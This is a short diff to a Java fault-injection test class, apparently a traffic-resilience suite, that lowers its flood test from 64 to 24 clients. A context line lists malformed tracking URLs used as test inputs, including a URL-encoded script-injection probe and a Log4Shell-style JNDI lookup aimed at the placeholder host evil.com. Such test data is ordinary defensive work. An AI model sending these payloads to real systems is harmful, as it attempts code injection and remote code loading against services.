@@ -29,7 +29,7 @@ final class TrafficFaults {
             "/track/open/%3Cscript%3Ealert(1)%3C%2Fscript%3E", "/track/open/$%7Bjndi:ldap:%2F%2Fevil.com%7D");
 
     /// Whoever floods is answered late, so few are no flood.
-    private static final int CLIENTS = 64;
+    private static final int CLIENTS = 24;
     private static final int HERD = 1_000_000;
     private static final long BASELINE_MS = 3_000;
 
@@ -39,7 +39,7 @@ final class TrafficFaults {
         return List.of(
                 Fault.anywhere(
                         "malformed-flood",
-                        "malformed requests to tracking, as many as 64 clients can send",
+                        "malformed requests to tracking, as many as 24 clients can send",
                         TrafficFaults::flood),
                 Fault.anywhere(
                         "caches-evicted",
